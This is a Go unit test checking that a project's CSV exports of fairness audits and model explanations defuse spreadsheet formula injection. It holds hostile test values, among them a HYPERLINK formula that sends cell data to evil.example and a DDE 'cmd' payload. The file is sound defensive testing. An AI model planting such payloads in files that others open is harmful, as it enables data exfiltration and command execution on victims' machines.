package evidence_test

import (
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"

	lodestar "github.com/lodestar-hq/lodestar"
	"github.com/lodestar-hq/lodestar/internal/engine/explain"
	"github.com/lodestar-hq/lodestar/internal/engine/fairness"
	"github.com/lodestar-hq/lodestar/internal/evidence"
)

// TestExportCSVDefusesFormulas exports a fairness audit whose groups, and
// an explanation whose features, were named by the uploaded file as
// spreadsheet formulas: whoever downloads the CSV and opens it must not
// have them run (=HYPERLINK sends the sheet's cells away), so such a cell
// starts with an apostrophe, as the use-case export's do; numbers, even
// negative ones, stay as they are.
func TestExportCSVDefusesFormulas(t *testing.T) {
	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"x")`, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"}
	rep := fairness.Report{Reference: hostile[0], Favourable: "positive"}
	for _, g := range hostile {
		rep.Groups = append(rep.Groups, fairness.GroupMetrics{Group: g, N: 2})
	}
	rep.Groups = append(rep.Groups, fairness.GroupMetrics{Group: "-5", N: 2})
	result, _ := json.Marshal(rep)
	fa, err := evidence.ExportFairness(&lodestar.FairnessAudit{ID: 1, Result: result}, "csv")
	if err != nil {
		t.Fatal(err)
	}
	res := evidence.ExplanationResult{Features: append(append([]string(nil), hostile...), "-5")}
	for _, f := range res.Features {
		res.Importance = append(res.Importance, explain.FeatureImportance{Feature: f, Importance: -0.25})
	}
	res.Rows = []evidence.ExplainedRow{{Line: 2, SHAP: make([]float64, len(res.Features))}}
	result, _ = json.Marshal(res)
	ex, err := evidence.ExportExplanation(&lodestar.ExplanationReport{ID: 1, Result: result}, "csv")
	if err != nil {
		t.Fatal(err)
	}
	for _, d := range []*evidence.Download{fa, ex} {
		recs, err := csv.NewReader(strings.NewReader(string(d.Body))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", d.FileName, err)
		}
		negatives := 0
		for i, rec := range recs {
			for _, cell := range rec {
				if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) {
					t.Errorf("%s, row %d: cell %q would run as a formula", d.FileName, i+1, cell)
				}
				if cell == "-2+3" {
					t.Errorf("%s, row %d: cell %q would run as a formula", d.FileName, i+1, cell)
				}
				if cell == "-5" || cell == "-0.25" {
					negatives++
				}
			}
		}
		if negatives == 0 {
			t.Errorf("%s: no cell reads -5 or -0.25: numbers must stay numbers", d.FileName)
		}
		if !strings.Contains(string(d.Body), `'=HYPERLINK(`) {
			t.Errorf("%s: the formula's text is not kept behind an apostrophe:\n%s", d.FileName, d.Body)
		}
	}
}
